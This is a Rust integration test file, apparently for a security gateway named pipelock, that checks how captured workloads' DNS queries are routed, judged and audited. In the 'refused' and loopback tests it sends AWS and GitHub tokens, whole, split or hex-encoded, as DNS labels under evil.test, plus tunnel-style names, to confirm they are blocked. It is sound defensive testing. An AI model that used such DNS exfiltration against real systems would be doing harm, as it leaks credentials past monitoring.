//! DNS of captured workloads: answered by their own servers through the gateway, judged on the way, and what it binds.
//!
//! The daemon runs as in [`crate::daemon`]; the world has a DNS server with two addresses, which writes down who asked what. Whoever
//! asks from the pod's own address was not judged. Clients are the C library, and sockets used in every way resolvers use them.

use anyhow::{Context, Result, ensure};
use pipelock_gateway::capture::{Datapath, TargetPolicy};
use pipelock_tests::harness::Case;
use pipelock_tests::need::Need;
use pipelock_tests::process::eventually;
use pipelock_tests::secrets::Secret;
use rustix::process::Signal;
use serde_json::Value;

use crate::daemon::{Counting, POD, World};
use crate::datapath::{DEADLINE, Options, Workload, with};

type Claim = fn() -> Result<()>;

pub(crate) fn cases() -> Vec<Case> {
    let needs = [Need::Bpf, Need::CgroupV2, Need::Python3, Need::Pipelock];
    let cases: [(&str, Claim); 6] = [
        ("a_place_tells_the_server_and_the_answer_seems_to_come_from_it", places),
        ("queries_are_answered_by_the_workloads_own_servers_whatever_socket_asks", own_servers),
        ("a_resolver_on_loopback_is_asked_inside_the_namespace", on_loopback),
        ("secrets_in_names_tunnels_and_broken_messages_never_reach_a_server", refused),
        ("answers_bind_names_for_connections_that_name_nobody", bindings),
        ("while_the_gateway_is_dead_a_bypassed_server_answers_and_no_other", dead_gateway),
    ];
    cases.into_iter().map(|(name, case)| Case::new(format!("dns::{name}"), needs, move |_| case()).alone()).collect()
}

/// Answers on every address given, over UDP and TCP, and tells who asked what when a line comes; echoes on port 7000.
pub(crate) const SERVER: &str = r#"
import json, socket, struct, sys, threading
asked, lock = [], threading.Lock()
def name_at(q, i):
    labels = []
    while q[i]:
        labels.append(q[i+1:i+1+q[i]].decode("latin1")); i += q[i] + 1
    return ".".join(labels), i + 1
def answer(q, how, peer, here):
    name, i = name_at(q, 12)
    kind = struct.unpack(">H", q[i:i+2])[0]
    with lock: asked.append([how, peer, here, name, kind, len(q) - i - 4])
    records, flags = [], 0x8180
    address = {"api.example.test": 10, "cdn.example.test": 10, "db.example.test": 10, "where.example.test": int(here.split(".")[3])}
    if kind == 1 and name in address:
        records.append(b"\xc0\x0c\x00\x01\x00\x01\x00\x00\x00\x3c\x00\x04" + bytes([203, 0, 113, address[name]]))
    if kind == 1 and name == "alias.example.test":
        target = b"\x03cdn\xc0\x12"
        records.append(b"\xc0\x0c\x00\x05\x00\x01\x00\x00\x00\x3c" + struct.pack(">H", len(target)) + target)
        records.append(target + b"\x00\x01\x00\x01\x00\x00\x00\x3c\x00\x04" + bytes([203, 0, 113, 10]))
    if name == "big.example.test":
        if how == "udp": flags |= 0x200
        else: records = [b"\xc0\x0c\x00\x10\x00\x01\x00\x00\x00\x3c\x00\xc9\xc8" + b"x" * 200] * 10
    return q[:2] + struct.pack(">HHHHH", flags, 1, len(records), 0, 0) + q[12:i+4] + b"".join(records)
def udp(s, here):
    while True:
        q, peer = s.recvfrom(4096)
        try: s.sendto(answer(q, "udp", peer[0], here), peer)
        except (IndexError, struct.error): pass
def tcp(l, here):
    while True:
        s, peer = l.accept()
        try:
            s.settimeout(5)
            while True:
                n = s.recv(2, socket.MSG_WAITALL)
                if len(n) < 2: break
                a = answer(s.recv(struct.unpack(">H", n)[0], socket.MSG_WAITALL), "tcp", peer[0], here)
                s.sendall(struct.pack(">H", len(a)) + a)
        except OSError: pass
        s.close()
def echo(l):
    while True:
        s, peer = l.accept()
        try:
            s.settimeout(5); s.sendall(s.recv(64))
        except OSError: pass
        s.close()
for here in sys.argv[1:]:
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.bind((here, 53))
    threading.Thread(target=udp, args=(s, here), daemon=True).start()
    for port, serve in ((53, lambda l, here=here: tcp(l, here)), (7000, echo)):
        l = socket.socket(); l.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1); l.bind((here, port)); l.listen(64)
        threading.Thread(target=serve, args=(l,), daemon=True).start()
for line in sys.stdin:
    with lock: print(json.dumps(asked), flush=True)
"#;

/// What scripts of workloads ask with.
const ASK: &str = r#"
def query(name, kind=1, more=b"", extra=0, ident=0x4242):
    return struct.pack(">HHHHHH", ident, 0x0100, 1, 0, 0, extra) + b"".join(bytes([len(l)]) + l.encode() for l in name.split(".") if l) + b"\0" + struct.pack(">HH", kind, 1) + more
def rcode(a): return a[3] & 15
def last4(a): return ".".join(map(str, a[-4:]))
def udp(name, server, kind=1, **how):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(8)
    s.connect((server, 53)); s.send(query(name, kind, **how)); return s.recv(4096)
"#;

fn script(text: &str) -> String {
    format!("{ASK}\n{text}")
}

/// The world with DNS servers in it, and the daemon.
struct Rig {
    world: World,
    server: Counting,
}

impl Rig {
    fn new(config: &str) -> Result<Self> {
        let world = World::with(config)?;
        for address in ["203.0.113.53", "203.0.113.54"] {
            world.ip("w", &format!("addr add {address}/32 dev lo"))?;
        }
        let mut server = world.command("w", "python3");
        server.args(["-u", "-c", SERVER, "203.0.113.10", "203.0.113.53", "203.0.113.54"]);
        let server = Counting::of(server)?;
        Ok(Self { world, server })
    }

    fn says(&self, text: &str) -> Result<Vec<String>> {
        Workload::spawn(&self.world.cgroup, self.world.command("p", "python3"), &script(text))?.finish()
    }

    /// What the server was asked: how, by whom, at which address, the name, the type, bytes behind the question.
    fn asked(&mut self) -> Result<Vec<Vec<Value>>> {
        self.server.told()
    }

    fn audit(&self) -> Result<String> {
        Ok(std::fs::read_to_string(self.world.directory.path().join("audit.jsonl"))?)
    }
}

fn own_servers() -> Result<()> {
    let mut rig = Rig::new("")?;
    let _gateway = rig.world.gateway()?;
    // The C library, by the file it reads.
    let file = rig.world.directory.path().join("resolv.conf");
    std::fs::write(&file, "nameserver 203.0.113.53\nnameserver 203.0.113.54\noptions timeout:2 attempts:2\n")?;
    let mount = format!("mount --bind {} $(realpath /etc/resolv.conf) && exec python3 \"$@\"", file.display());
    let mut command = rig.world.command("p", "unshare");
    command.args(["--mount", "sh", "-c", &mount, "sh"]);
    let resolve = "for n in ('api.example.test', 'alias.example.test'): print(socket.getaddrinfo(n, 443, socket.AF_INET)[0][4][0])\n\
                   print(socket.getaddrinfo('api.example.test', 443, type=socket.SOCK_STREAM)[0][4][0])";
    let said = Workload::spawn(&rig.world.cgroup, command, resolve)?.finish()?;
    ensure!(said == ["203.0.113.10"; 3], "the C library was told {said:?}");
    // Sockets as other resolvers use them.
    let said = rig.says(
        r#"
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(8); s.connect(("203.0.113.53", 53))
print(name(s.getpeername())); s.send(query("where.example.test")); print(last4(s.recv(4096)))
# musl: one socket, both servers at once, answers told by where they come from.
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(8); s.bind(("0.0.0.0", 0))
for server in ("203.0.113.53", "203.0.113.54"): s.sendto(query("where.example.test"), (server, 53))
print(sorted(name(peer) + " " + last4(a) for a, peer in (s.recvfrom(4096), s.recvfrom(4096))))
# The mapped form on a socket of the other family.
s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM); s.settimeout(8)
s.sendto(query("where.example.test"), ("::ffff:203.0.113.54", 53)); a, peer = s.recvfrom(4096); print(peer[0], last4(a))
# Capitals come back as they were sent, and the cookie is not passed on.
a = udp("aPi.ExamplE.test", "203.0.113.53", more=b"\0\0\x29\x10\0\0\0\x80\0\0\x0c\0\x0a\0\x08COOKIE..", extra=1)
print(a[12:28] == b"\x03aPi\x07ExamplE\x04tes", last4(a))
# Cut over UDP, whole over TCP, where two questions share a connection.
print(udp("big.example.test", "203.0.113.53", 16)[2] & 2)
s = tcp4(); s.connect(("203.0.113.53", 53)); print(name(s.getpeername()))
for n, kind in (("big.example.test", 16), ("where.example.test", 1)):
    q = query(n, kind); s.sendall(struct.pack(">H", len(q)) + q)
    n = struct.unpack(">H", s.recv(2, socket.MSG_WAITALL))[0]; a = s.recv(n, socket.MSG_WAITALL); print(n > 2000 or last4(a))
"#,
    )?;
    let expected = [
        "203.0.113.53:53",
        "203.0.113.53",
        "['203.0.113.53:53 203.0.113.53', '203.0.113.54:53 203.0.113.54']",
        "::ffff:203.0.113.54 203.0.113.54",
        "True 203.0.113.10",
        "2",
        "203.0.113.53:53",
        "True",
        "203.0.113.53",
    ];
    ensure!(said == expected, "{said:#?}");
    let asked = rig.asked()?;
    ensure!(asked.len() >= 11, "{asked:?}");
    for one in &asked {
        ensure!(one[1] == "198.51.100.2", "{one:?} did not come through the gateway");
        ensure!(one[3].as_str().is_some_and(|name| !name.contains(|c: char| c.is_uppercase())), "{one:?}");
        ensure!(one[5] == 0 || one[5] == 11, "more than a bare OPT record went along: {one:?}");
    }
    ensure!(asked.iter().any(|one| one[5] == 11 && one[3] == "api.example.test"), "{asked:?}");
    let (well, said) = rig.world.pipelock(&["targets", "--json"])?;
    ensure!(well && said.contains("\"dns\""), "{said}");
    Ok(())
}

fn on_loopback() -> Result<()> {
    let rig = Rig::new("names: {workload_servers: [127.0.0.11]}\n")?;
    // As Docker's: inside the container's namespace, of a process that is not the container's.
    let mut command = rig.world.command("p", "python3");
    command.args(["-u", "-c", SERVER, "127.0.0.11"]);
    let mut docker = Counting::of(command)?;
    ensure!(docker.told::<Vec<Vec<Value>>>()?.is_empty());
    let _gateway = rig.world.gateway()?;
    let ask = r#"
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(8)
s.sendto(query("api.example.test"), ("127.0.0.11", 53)); a, peer = s.recvfrom(4096); print(name(peer), last4(a))
s = tcp4(); s.connect(("127.0.0.11", 53)); q = query("api.example.test"); s.sendall(struct.pack(">H", len(q)) + q)
n = struct.unpack(">H", s.recv(2, socket.MSG_WAITALL))[0]; print(last4(s.recv(n, socket.MSG_WAITALL)))
"#;
    let said = rig.says(ask)?;
    ensure!(said == ["127.0.0.11:53 203.0.113.10", "203.0.113.10"], "{said:?}");
    let secret = Secret::aws().value;
    let said = rig.says(&format!("print(rcode(udp('{secret}.evil.test', '127.0.0.11')))"))?;
    ensure!(said == ["5"], "{said:?}");
    let asked: Vec<Vec<Value>> = docker.told()?;
    ensure!(asked.len() == 2, "the server was asked {asked:?}");
    Ok(())
}

fn refused() -> Result<()> {
    let mut rig = Rig::new("")?;
    let _gateway = rig.world.gateway()?;
    let secrets = [Secret::aws().value, Secret::github().value];
    for secret in &secrets {
        let (first, second) = secret.split_at(11);
        let hex = secret.bytes().fold(String::new(), |hex, byte| hex + &format!("{byte:02x}"));
        let hex = hex.as_bytes().chunks(60).map(String::from_utf8_lossy).collect::<Vec<_>>().join(".");
        for name in [secret.clone(), format!("{first}.{second}"), hex] {
            let said = rig.says(&format!("print(rcode(udp('{name}.x.evil.test', '203.0.113.53')))"))?;
            ensure!(
                said == ["5"],
                "a secret of {} bytes in {} labels: {said:?}",
                secret.len(),
                name.split('.').count()
            );
        }
    }
    // Bytes that mean nothing by themselves, in many names below one domain.
    let said = rig.says(
        "codes = [rcode(udp('%08x%s.t.tunnel.test' % (i * 2654435761 % 2**32, 'k3v9q7x1' * 4), '203.0.113.53')) for i in range(80)]\n\
         print(codes[0], codes[-1])",
    )?;
    ensure!(said == ["0 5"], "{said:?}");
    // What is no plain question.
    let said = rig.says(
        r#"
print(rcode(udp("a.test", "203.0.113.53", 10)), rcode(udp("a.test", "203.0.113.53", 252)))
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(8); s.connect(("203.0.113.53", 53))
s.send(b"\0\1\1\0" + b"raw bytes of a tunnel"); print(rcode(s.recv(512)))
s.send(query("a.test") + b"more"); print(rcode(s.recv(512)))
"#,
    )?;
    ensure!(said == ["4 4", "1", "1"], "{said:?}");
    let asked = rig.asked()?;
    ensure!(asked.iter().all(|one| one[1] == "198.51.100.2"), "{asked:?}");
    let leaked = asked.iter().filter(|one| !one[3].as_str().is_some_and(|name| name.ends_with(".t.tunnel.test")));
    ensure!(leaked.clone().count() == 0, "{:?}", leaked.collect::<Vec<_>>());
    ensure!(asked.len() < 64, "{} names of a tunnel passed", asked.len());
    let audit = rig.audit()?;
    ensure!(
        audit.contains("\"dns_query\"") && audit.contains("DNS Tunnelling") && audit.contains("evil.test"),
        "{audit}"
    );
    for secret in &secrets {
        ensure!(
            !audit.to_ascii_lowercase().contains(&secret[..12].to_ascii_lowercase()),
            "the audit log holds the secret"
        );
    }
    Ok(())
}

fn bindings() -> Result<()> {
    let config = "mode: strict\napi_allowlist: [db.example.test]\nno_proxy: {list: [db.example.test]}\n\
                  names: {servers: [203.0.113.53]}\n";
    let mut rig = Rig::new(config)?;
    let _gateway = rig.world.gateway()?;
    // A protocol that names nobody: bytes that no server's name stands in.
    let connect = "def ask():\n    s = tcp4()\n    try:\n        s.connect(('203.0.113.10', 7000)); s.sendall(b'\\x00\\x01\\x02\\x03'); return len(s.recv(64))\n    except OSError as e: return errno.errorcode[e.errno]\n";
    let said = rig
        .says(&format!("{connect}print(ask()); print(last4(udp('db.example.test', '203.0.113.54'))); print(ask())"))?;
    ensure!(
        said == ["ECONNRESET", "203.0.113.10", "ECONNRESET"],
        "a server that the workload chose binds nothing: {said:?}"
    );
    let said = rig.says(&format!("{connect}print(last4(udp('db.example.test', '203.0.113.53'))); print(ask())"))?;
    ensure!(said == ["203.0.113.10", "4"], "{said:?}");
    ensure!(rig.asked()?.len() >= 2);
    // The record is written after the connection has ended on both sides.
    eventually(DEADLINE, || match rig.audit() {
        Ok(audit) if audit.contains("no_proxy_name") => Ok(()),
        audit => Err(format!("{audit:?}")),
    })
}

fn dead_gateway() -> Result<()> {
    let mut rig = Rig::new("")?;
    rig.world.rewrite_config(|text| text.replace("netns:", "cidr_bypass: [203.0.113.54/32], netns:"))?;
    let gateway = rig.world.gateway()?;
    gateway.signal(Signal::KILL)?;
    gateway.ended()?;
    let said = rig.says(
        r#"
def answered(server):
    try: return last4(udp("where.example.test", server))
    except OSError as e: return errno.errorcode.get(e.errno, "timeout")
print(answered("203.0.113.54")); print(answered("203.0.113.53"))
"#,
    )?;
    ensure!(said == ["203.0.113.54", "ECONNREFUSED"], "{said:?}");
    let asked = rig.asked()?;
    ensure!(asked.iter().all(|one| one[1] == POD && one[2] == "203.0.113.54"), "{asked:?}");
    Ok(())
}

/// The kernel's part, with this process as the gateway: both families, every form of socket.
fn places() -> Result<()> {
    let policy = TargetPolicy { dns: true, ..TargetPolicy::default() };
    with(Options { policy: Some(policy), ..Options::default() }, |gateway| {
        let workload = gateway.workload(
            r#"
for family, server in ((socket.AF_INET, "203.0.113.53"), (socket.AF_INET6, "2001:db8::53"), (socket.AF_INET6, "::ffff:203.0.113.53")):
    for connected in (True, False):
        s = socket.socket(family, socket.SOCK_DGRAM)
        if connected:
            s.connect((server, 53)); s.send(b"question"); a = s.recv(64); peer = s.getpeername()
        else:
            s.sendto(b"question", (server, 53)); a, peer = s.recvfrom(64)
        print(a.decode(), name(peer))
"#,
        )?;
        let mut servers = Vec::new();
        for _ in 0..6 {
            let (socket, datagram) = gateway.question()?;
            let asked =
                gateway.datapath.asked(gateway.armed.id, datagram.place)?.context("nobody was steered there")?;
            ensure!(asked.workload.cgroup == gateway.run.cgroup().id() && asked.workload.pid == workload.child.id());
            servers.push(asked.server.to_string());
            socket.answer(b"answer", &datagram)?;
        }
        ensure!(
            servers
                == [
                    "203.0.113.53:53",
                    "203.0.113.53:53",
                    "[2001:db8::53]:53",
                    "[2001:db8::53]:53",
                    "203.0.113.53:53",
                    "203.0.113.53:53"
                ],
            "{servers:?}"
        );
        let said = workload.finish()?;
        let seen = [
            "203.0.113.53:53",
            "203.0.113.53:53",
            "[2001:db8::53]:53",
            "[2001:db8::53]:53",
            "[::ffff:203.0.113.53]:53",
            "[::ffff:203.0.113.53]:53",
        ];
        ensure!(said == seen.map(|peer| format!("answer {peer}")), "{said:?}");
        ensure!(gateway.datapath.counters()?.dns == 6);
        // The ports are nobody else's, and port 53 of loopback is steered, too.
        let port = gateway.resolver_port()?;
        let said = gateway.workload(&format!(
            "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); print(errno_of(s.bind, ('127.64.0.1', {port})))\n\
             s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM); print(errno_of(s.bind, ('::1', {port} + 7)))\n\
             s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(b'q', ('127.0.0.53', 53))"
        ))?;
        let (_, datagram) = gateway.question()?;
        let asked = gateway.datapath.asked(gateway.armed.id, datagram.place)?.context("loopback is not steered")?;
        ensure!(asked.server.to_string() == "127.0.0.53:53", "{asked:?}");
        ensure!(said.finish()? == ["EADDRINUSE"; 2]);
        // More servers than there are places: refused, and the rest goes on.
        let said = gateway.workload(
            "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n\
             print([errno_of(s.sendto, b'q', ('203.0.113.%d' % i, 53)) for i in range(100, 180)].count('EPERM'))\n\
             print(errno_of(s.sendto, b'q', ('203.0.113.100', 53)))",
        )?;
        ensure!(said.finish()? == ["18", "ok"], "of 64 places two were taken by other servers of this cgroup");
        Ok(())
    })
}
